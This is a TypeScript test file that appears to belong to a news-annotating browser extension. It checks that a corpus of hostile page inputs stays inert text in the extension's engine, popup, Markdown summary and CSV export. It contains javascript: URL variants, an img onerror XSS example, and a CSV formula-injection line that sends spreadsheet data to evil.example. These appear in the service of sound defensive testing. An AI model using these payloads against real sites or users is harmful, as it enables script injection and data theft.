/**
 * Hostile input (tests/unit/hostile-corpus.ts) through the engine and the popup's components:
 * payloads in page text, attributes and metadata come out of annotateDocument as the very
 * characters the page showed, never decoded again, never run; rendered by the popup's
 * components they stay text nodes and create no element of their own.
 */
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { h, render } from 'preact';
import { annotateDocument, articleTexts } from '@/lib/annotate-page';
import { readMetadata } from '@/lib/article/metadata';
import { toCsl } from '@/lib/citation/csl';
import { CITATION_FORMATS, type CitationFormat } from '@/lib/citation/format-names';
import { loadIndex } from '@/lib/incidents/load';
import { rankerFromIndex } from '@/lib/incidents/rank';
import { summaryMarkdown } from '@/lib/summary';
import { citeFigures, factJson, factMarkdown, factsCsv, type CitedFact } from '@/lib/citation/fact';
import { ENTITY_TYPES, type Annotation, type ArticleMeta, type MoneyFigure } from '@/lib/schema';
import type { TabState } from '@/lib/messages';
import type { IncidentRanker } from '@/lib/incidents/ranker-types';
import type { Incident } from '@/lib/incidents/schema';
import { Popup, type Send } from '@/components/Popup';
import { IncidentLookup } from '@/components/IncidentLookup';
import type { Setting } from '@/components/useSetting';
import { browserDocument, htmlDocument } from './dom';
import { JS_URL, PAYLOADS, corpusPage, escapeHtml, foreignMarkup, hostilePage, htmlVariants, type Payload } from './hostile-corpus';

type Pwnable = { __pwned?: unknown; polluted?: unknown };
const pwned = () => (globalThis as Pwnable).__pwned ?? (Object.prototype as Pwnable).polluted;
const PAGE_URL = 'https://news.example/2019/05/08/binance-hack';
const fold = (s: string) => s.replace(/\s+/g, ' ').trim();
const PARSERS = { linkedom: async (html: string) => htmlDocument(html), 'happy-dom': browserDocument } as const;

/** Every string leaf of a JSON value. */
function strings(value: unknown, out: string[] = []): string[] {
  if (typeof value === 'string') out.push(value);
  else if (Array.isArray(value)) value.forEach((v) => strings(v, out));
  else if (value && typeof value === 'object') Object.values(value).forEach((v) => strings(v, out));
  return out;
}

function blockText(doc: Document): string {
  return articleTexts(doc).join('\n\n');
}

let ranker: IncidentRanker;
beforeAll(() => {
  ranker = rankerFromIndex(loadIndex());
});

describe('hostile corpus', () => {
  it('has at least 50 payloads with unique ids', () => {
    expect(PAYLOADS.length).toBeGreaterThanOrEqual(50);
    expect(new Set(PAYLOADS.map((p) => p.id)).size).toBe(PAYLOADS.length);
  });
});

describe('the engine on hostile pages', () => {
  const check = async (p: Payload, parser: keyof typeof PARSERS) => {
    const doc = await PARSERS[parser](hostilePage(p.text));
    const elements = doc.querySelectorAll('*').length;
    const text = doc.body.textContent;
    const { annotation, spans } = annotateDocument(doc, PAGE_URL, { rank: ranker, today: new Date('2024-01-02') });

    // nothing ran, and the page was only read
    expect(pwned()).toBeUndefined();
    expect(doc.querySelectorAll('*').length).toBe(elements);
    expect(doc.body.textContent).toBe(text);
    // plain data: the JSON round-trips unchanged
    expect(JSON.parse(JSON.stringify(annotation))).toEqual(annotation);

    // the metadata carries the payload's characters exactly: not parsed, not stripped, not decoded twice
    const a = annotation.article;
    expect(a.title).toBe(p.text.trim()); // JSON-LD headline
    expect(htmlVariants(p.text.trim())).toContain(a.publisher); // og:site_name attribute
    expect([[fold(p.text)], ['Jane Doe']]).toContainEqual(a.authors); // JSON-LD author, or the byline when it is not name-like
    expect(annotation.citation.csl.title).toBe(a.title);
    expect(annotation.citation.csl['container-title']).toBe(a.publisher);
    expect(a.url).toBe(PAGE_URL);

    // the prose shows the payload as text, decoded once
    const prose = fold(blockText(doc));
    expect(htmlVariants(p.text).some((v) => prose.includes(fold(v)))).toBe(true);
    // no string holds a '<' or '&' the page did not show (an entity decoded a second time would)
    const shownText = [...htmlVariants(p.text), prose].map(fold);
    for (const str of strings(annotation).filter((x) => /[<&]/.test(x))) {
      expect(shownText.some((t) => t.includes(fold(str))), str.slice(0, 60)).toBe(true);
    }
    // names and figures are pieces of that text (or the knowledge's own names), never markup
    for (const e of annotation.entities) {
      for (const n of [e.name, ...e.aliases]) {
        if (!/^[\p{L}\p{N}\p{M} .'’&-]+$/u.test(n)) expect(prose).toContain(fold(n));
      }
    }
    // a name-shaped payload in the prose is found (with other metadata: the publisher's own name is never an entity)
    if (p.names) {
      const names = annotateDocument(await PARSERS[parser](hostilePage(p.text, { inMetadata: false })), PAGE_URL).annotation.entities.map((e) => e.name);
      expect(names).toEqual(expect.arrayContaining(p.names));
    }
    for (const f of annotation.figures) expect(prose).toContain(fold(f.text));
    const blocks = blockText(doc).split('\n\n');
    for (const s of spans) {
      expect(s.start).toBeLessThan(s.end);
      expect(s.end).toBeLessThanOrEqual(blocks[s.block]?.length ?? -1);
    }
  };

  describe.each(Object.keys(PARSERS) as (keyof typeof PARSERS)[])('parsed by %s', (parser) => {
    it.each(PAYLOADS.map((p) => [p.id, p] as const))('%s stays inert text in the annotation', async (_id, p) => {
      await check(p, parser);
    }, 30_000);

    it('a page with every payload at once', async () => {
      const doc = await PARSERS[parser](corpusPage());
      // without the ranker here; the ranker has its own test below
      const { annotation } = annotateDocument(doc, PAGE_URL);
      expect(pwned()).toBeUndefined();
      expect(JSON.parse(JSON.stringify(annotation))).toEqual(annotation);
      const prose = fold(blockText(doc));
      for (const p of PAYLOADS) expect(htmlVariants(p.text).some((v) => prose.includes(fold(v))), p.id).toBe(true);
      expect(annotation.entities.length).toBeGreaterThan(12);
    }, 60_000);
  });
});

// Regression, found by this corpus and since fixed (lib/incidents/rank.ts, line 103): the ranker builds `new RegExp(...escapeRegExp(nameKey(name))...)`
// for every entity name; a capitalized word of about 32,000 characters or more in the prose becomes an
// entity and the pattern is too large for V8 ("Invalid regular expression: ... Regular expression too
// large"), so annotateBlocks throws and the whole page goes unannotated (in the extension the
// background's cs:annotate rejects and the page's state is 'error'; cleanBlocks in
// entrypoints/background.ts caps the total text, not the length of a word). Fixed so that
// the ranker stops building a RegExp per name (or skips absurdly long names).
it('a page whose prose has a 100,000-character capitalized word is still annotated with the ranker', () => {
  const long = PAYLOADS.find((p) => p.id === 'long-string')!;
  const { annotation } = annotateDocument(htmlDocument(hostilePage(long.text, { inMetadata: false })), PAGE_URL, { rank: ranker });
  expect(annotation.entities.length).toBeGreaterThan(0);
});

describe('the article URL', () => {
  const JS_URLS = [JS_URL, 'JaVaScRiPt:alert(1)', ' \tjava\nscript:alert(1)', 'javascript://news.example/%0Aalert(1)'];
  const head = (u: string) => {
    const e = escapeHtml(u);
    const ld = JSON.stringify({ '@type': 'NewsArticle', headline: 'H', url: u, mainEntityOfPage: u });
    return [`<link rel="canonical" href="${e}">`, `<meta property="og:url" content="${e}">`, `<script type="application/ld+json">${ld.replace(/</g, '\\u003c')}</script>`];
  };

  it('is the page URL when the page offers nothing better', () => {
    expect(readMetadata(htmlDocument('<html><head><title>T</title></head><body><p>x</p></body></html>'), PAGE_URL).url).toBe(PAGE_URL);
  });

  // Regression, found by this corpus and since fixed (lib/article/metadata.ts, pickUrl, lines 199-211): any URL that `new URL()` accepts is
  // returned, so `<link rel="canonical" href="javascript:...">` (or og:url, or JSON-LD url /
  // mainEntityOfPage) becomes article.url, then the citation's URL (lib/citation/csl.ts) and the
  // Markdown summary's `<url>` autolink (lib/summary.ts). In the extension the background's
  // cleanMeta (entrypoints/background.ts) drops non-http(s) URLs before annotating, but
  // annotateDocument (the CLI, scripts/cli.ts) has no such guard. Fixed so that pickUrl keeps
  // only http(s) candidates.
  it('is never a javascript: URL, from the canonical link, og:url or JSON-LD', () => {
    for (const u of JS_URLS) {
      for (const tag of head(u)) {
        for (const pageUrl of [PAGE_URL, null]) {
          const doc = htmlDocument(`<!doctype html><html><head><title>T</title>${tag}</head><body><article><p>Text.</p></article></body></html>`);
          const meta = readMetadata(doc, pageUrl);
          expect(meta.url === null || /^https?:\/\//i.test(meta.url), `${tag} → ${meta.url}`).toBe(true);
          const { annotation } = annotateDocument(doc, pageUrl);
          expect(annotation.citation.csl.URL ?? 'https://', tag).toMatch(/^https?:\/\//i);
          expect(summaryMarkdown(annotation, [], ''), tag).not.toMatch(/<\s*javascript:/i);
        }
      }
    }
  });
});

/** An HTML tag that Markdown renderers allowing inline HTML would make live. */
const RAW_TAG = /(?<!\\)<(?:script|img|svg|iframe|a\s|object|embed|details|body|input|video|form|math|style)/i;

/** The shape of a tree: tags, attribute names and node kinds, no text and no attribute values. */
function shape(node: Node): string {
  if (node.nodeType === 3) return '#';
  if (node.nodeType !== 1) return `?${node.nodeType}`;
  const el = node as Element;
  return `<${el.tagName} ${el.getAttributeNames().sort().join(' ')}>${[...el.childNodes].map(shape).join('')}</>`;
}

function textNodes(root: Node): string[] {
  const out: string[] = [];
  const walk = (n: Node) => {
    if (n.nodeType === 3) out.push((n as Text).data);
    n.childNodes.forEach(walk);
  };
  walk(root);
  return out;
}

/**
 * An annotation whose every page-derived string is one of `texts`: the article's metadata,
 * entity names and aliases, figures as written, address text, the incident's and related
 * incidents' names and reasons. Structure (types, counts, dates) comes from a real annotation.
 */
function annotationOf(base: Annotation, texts: readonly string[]): Annotation {
  let i = 0;
  const next = () => texts[i++ % texts.length]!;
  const article: ArticleMeta = { title: next(), url: PAGE_URL, publisher: next(), authors: [next(), next()], publishedAt: '2019-05-08', language: 'en' };
  const entities = texts.map((_, k) => ({ type: ENTITY_TYPES[k % ENTITY_TYPES.length]!, name: next(), aliases: k % 3 === 0 ? [next()] : [], mentions: (k % 7) + 1, flags: [] }));
  const figures: Annotation['figures'] = texts.slice(0, 24).map((_, k) =>
    k % 3 === 0 ? { kind: 'money', text: next(), value: 40_000_000 + k, currency: 'USD' }
      : k % 3 === 1 ? { kind: 'crypto', text: next(), value: 7074 + k, asset: 'BTC' }
        : { kind: 'date', text: next(), value: `2019-05-${String((k % 28) + 1).padStart(2, '0')}` },
  );
  const addresses: Annotation['addresses'] = texts.slice(0, 12).map((_, k) => ({ chain: k % 2 ? 'monero' : 'bitcoin', text: next(), valid: k % 3 === 0, flags: [] }));
  const related = base.related.map((r) => ({ ...r, name: next(), why: [next(), next()] }));
  return {
    ...base,
    article,
    entities,
    figures,
    addresses,
    incident: base.incident ? { ...base.incident, name: next() } : null,
    related,
    // the glance names entities of this annotation, so hostile and harmless twins have the same shape
    summary: { amount: figures[0]!.kind === 'money' ? figures[0]! as MoneyFigure : null, date: '2019-05-07', victims: [entities[0]!.name], actors: [entities[1]!.name], agencies: [entities[2]!.name] },
    crimeEvidence: base.crimeEvidence.map((e) => ({ ...e, sentence: next() })),
    citation: { csl: toCsl(article, new Date('2024-01-02')) },
  };
}

/** "Cite this fact" for every figure, each in a sentence of its own that also carries a payload. */
function factsOf(annotation: Annotation): CitedFact[] {
  const blocks = annotation.figures.map((f, i) => `Investigators said ${f.text} was taken. ${PAYLOADS[i % PAYLOADS.length]!.text} ${f.text} again.`);
  return citeFigures({ annotation: annotation, spans: [], blocks: blocks, url: PAGE_URL, pageText: blocks.join('\n') });
}

/** A setting held in memory, for the views that read and watch settings. */
function setting<T>(value: T): Setting<T> {
  return { getValue: async () => value, setValue: async (v) => void (value = v), watch: () => () => undefined };
}

describe('the popup components with hostile strings', () => {
  const texts = PAYLOADS.map((p) => p.text);
  const benign = texts.map((_, k) => `Benign text number ${k}`);
  let base: Annotation;
  let incidents: Incident[];
  const copied: string[] = [];

  beforeAll(() => {
    // the 100,000-character word is covered by its own test above
    const doc = htmlDocument(corpusPage(PAYLOADS.filter((p) => p.id !== 'long-string')));
    base = annotateDocument(doc, PAGE_URL, { rank: ranker }).annotation;
    expect(base.related.length).toBeGreaterThan(1); // so the related list and its timeline render
    const ids = new Set([base.incident?.id, ...base.related.map((r) => r.id)]);
    incidents = loadIndex().filter((x) => ids.has(x.id));
    vi.stubGlobal('requestAnimationFrame', (cb: () => void) => setTimeout(cb, 0));
    vi.stubGlobal('navigator', { clipboard: { writeText: async (t: string) => void copied.push(t) } });
  });
  afterAll(() => {
    vi.unstubAllGlobals();
  });

  const POPUP_SECTIONS = ['names', 'figures', 'addresses', 'related', 'export', 'highlights'];

  async function renderPopup(annotation: Annotation) {
    const { Window } = await import('happy-dom');
    const window = new Window({ url: 'chrome-extension://hashmark/popup.html?tab=7' });
    const doc = window.document as unknown as Document;
    const root = doc.createElement('div');
    root.id = 'app';
    doc.body.appendChild(root);
    const state: TabState = { status: 'ready', url: PAGE_URL, annotation, highlights: 42, incidents };
    const facts = factsOf(annotation);
    const sent: string[] = [];
    const citationFormat = setting<CitationFormat>('apa');
    // the background's answers, made by the same lib functions it uses
    const { formatCitation } = await import('@/lib/citation/formats');
    const send = (async (name: string, data: { as?: string; format?: CitationFormat }) => {
      sent.push(name);
      if (name === 'popup:get-tab') return state;
      if (name === 'popup:citation') {
        const as = data.format ?? (await citationFormat.getValue());
        return { format: as, text: formatCitation(annotation.citation.csl, as) };
      }
      if (name === 'ui:export-facts') return data.as === 'csv' ? factsCsv(facts, annotation.article) : facts.map((f) => factMarkdown(f, 'Citation')).join('\n');
      if (name === 'ui:cite-fact') return facts[0] ? (data.as === 'json' ? factJson(facts[0]) : factMarkdown(facts[0], 'Citation')) : null;
      return true;
    }) as Send;
    const props: Parameters<typeof Popup>[0] = {
      tabId: 7,
      send,
      citationFormat,
      highlights: { visible: setting(true), hidden: setting([]), palette: setting({}) },
      sites: setting([]),
      permissions: { contains: async () => false, request: async () => false },
      // every section open: a section's body is drawn only once it opens, and every part is checked
      openSections: setting(POPUP_SECTIONS),
    };
    render(h(Popup, props), root);
    await vi.waitFor(() => expect(root.querySelector('[data-ready]')).not.toBeNull(), { timeout: 10_000 });
    await vi.waitFor(() => expect(root.querySelectorAll('details[data-section] > .section-body').length).toBe(root.querySelectorAll('details[data-section]').length), { timeout: 10_000 });
    const preview = () => root.querySelector('.citation-preview')!;
    await vi.waitFor(() => expect(preview().textContent).not.toBe('Preparing the citation…'), { timeout: 20_000 });
    return { root, doc, window, sent, preview };
  }

  it('create only their own elements, with payloads as text nodes and no javascript: links', async () => {
    const hostile = annotationOf(base, texts);
    const { root, preview, window } = await renderPopup(hostile);
    expect(pwned()).toBeUndefined();
    expect(foreignMarkup(root)).toEqual([]);
    expect(root.querySelectorAll('a[href]').length).toBeGreaterThan(0); // explorer and source links exist, and are checked

    // the same structure as with harmless strings in the same places: no payload added a node
    const twin = await renderPopup(annotationOf(base, benign));
    expect(shape(root)).toBe(shape(twin.root));
    twin.window.close();

    // payloads are text: the title, every entity name, every figure and address as written
    const title = root.querySelector('h1.title')!;
    expect([...title.childNodes].map((n) => n.nodeType)).toEqual([3]);
    expect(title.textContent).toBe(hostile.article.title);
    const nodes = new Set(textNodes(root));
    for (const e of hostile.entities) expect(nodes.has(e.name), e.name.slice(0, 40)).toBe(true);
    for (const f of hostile.figures) expect(nodes.has(f.text), f.text.slice(0, 40)).toBe(true);
    for (const x of hostile.addresses) expect(nodes.has(x.text), x.text.slice(0, 40)).toBe(true);
    for (const r of hostile.related) expect(nodes.has(r.name), r.name.slice(0, 40)).toBe(true);
    const shown = textNodes(root).join('');
    for (const t of texts) expect(shown.includes(t), t.slice(0, 40)).toBe(true);

    // every citation format: the preview is one text node
    const select = root.querySelector('#citation-format') as HTMLSelectElement;
    for (const f of CITATION_FORMATS) {
      select.value = f;
      select.dispatchEvent(new window.Event('change', { bubbles: true }) as unknown as Event);
      await vi.waitFor(() => expect(select.value).toBe(f));
      await vi.waitFor(() => expect(preview().textContent).not.toBe('Preparing the citation…'));
      expect([...preview().childNodes].every((n) => n.nodeType === 3), f).toBe(true);
      expect(foreignMarkup(root), f).toEqual([]);
    }

    // the copy buttons put text on the clipboard, and the DOM stays the components' own
    copied.length = 0;
    for (const b of root.querySelectorAll<HTMLButtonElement>('button.copy')) b.click();
    await vi.waitFor(() => expect(copied.length).toBe(root.querySelectorAll('button.copy').length), { timeout: 10_000 });
    const json = copied.find((c) => c.startsWith('{'))!;
    expect(JSON.parse(json)).toEqual(hostile);
    const markdown = copied.find((c) => c.startsWith('## '))!;
    // markup is escaped in the summary (code spans aside: an address is shown literally; the citation: see its own test below)
    expect(markdown.split('### Citation')[0]!.replace(/`[^`\n]*`/g, '')).not.toMatch(RAW_TAG);
    expect(foreignMarkup(root)).toEqual([]);
    expect(pwned()).toBeUndefined();
    window.close();
  }, 90_000);

  // Regression, found by this corpus and since fixed (lib/summary.ts, summaryMarkdown, `out.push('', '### Citation', citation, '')`): every other
  // line of the Markdown summary goes through mdEscape, but the formatted citation is appended as is,
  // and citeproc (via citation-js) passes a page's title and author through verbatim, so a title such
  // as `<img src=x onerror=...>` lands as raw inline HTML in the Markdown the reader copies (live in any
  // note app whose Markdown renderer allows HTML). citeproc also reads the fields as markup: `<b>x</b>`
  // loses its tags, and an author `<script>…</script>` comes out as `<script data-csl-entry-id="item">…`
  // (citation-js tags the first element of an entry). In the popup the citation is a <pre>'s text and
  // stays inert. Fixed so that the citation line is escaped (or fenced) in the summary.
  it('the Markdown summary escapes page markup in the citation too', async () => {
    const { formatCitation } = await import('@/lib/citation/formats');
    const hostile = annotationOf(base, texts);
    const md = summaryMarkdown(hostile, incidents, formatCitation(hostile.citation.csl, 'apa'));
    expect(md.replace(/`[^`\n]*`/g, '')).not.toMatch(RAW_TAG);
  });

  // Regression, found by this corpus and since fixed (lib/citation/fact.ts, csvField/factsCsv): fields are RFC 4180-quoted but a field that starts
  // with `=`, `+`, `-`, `@`, a tab or CR is written as is, so a page title, publisher or sentence such as
  // `=HYPERLINK("https://evil.example/?leak="&A1,"Click")` becomes a live formula when the reader opens
  // the "Copy all facts (CSV)" export in a spreadsheet (CSV/formula injection; quoting does not stop
  // Excel, LibreOffice or Google Sheets from evaluating it). The usual fix prefixes such a text field
  // with `'`. Fixed so that page text in the CSV can no longer start a formula.
  it('the facts CSV never starts a text field with a spreadsheet formula', () => {
    const csvPayloads = PAYLOADS.filter((p) => p.id.startsWith('csv-')).map((p) => p.text);
    const hostile = annotationOf(base, csvPayloads);
    const csv = factsCsv(factsOf(hostile), hostile.article);
    // RFC 4180 fields, unquoted
    const fields = [...csv.matchAll(/(?:^|,)("(?:[^"]|"")*"|[^,\r\n]*)/g)].map((m) => m[1]!.replace(/^"|"$/g, '').replace(/""/g, '"'));
    expect(fields.some((f) => f.startsWith('=HYPERLINK'))).toBe(false);
    expect(fields.filter((f) => /^[=+@\t\r]/.test(f) || /^-(?!\d)/.test(f))).toEqual([]);
  });

  it('the incident lookup shows a hostile query as text', async () => {
    const { Window } = await import('happy-dom');
    for (const q of texts.slice(0, 40)) {
      const window = new Window({ url: 'chrome-extension://hashmark/lookup.html' });
      const doc = window.document as unknown as Document;
      const root = doc.createElement('div');
      doc.body.appendChild(root);
      render(h(IncidentLookup, { initial: q, search: async () => [] }), root);
      await vi.waitFor(() => expect(root.querySelector('p[role=status]')?.textContent).toContain('No indexed incident'), { timeout: 5_000 });
      expect(foreignMarkup(root), q).toEqual([]);
      expect(textNodes(root)).toContain(q);
      expect((root.querySelector('#q') as HTMLInputElement).value).toBe(q.replace(/[\r\n]/g, '')); // an <input> drops line breaks
      window.close();
    }
    expect(pwned()).toBeUndefined();
  }, 60_000);
});
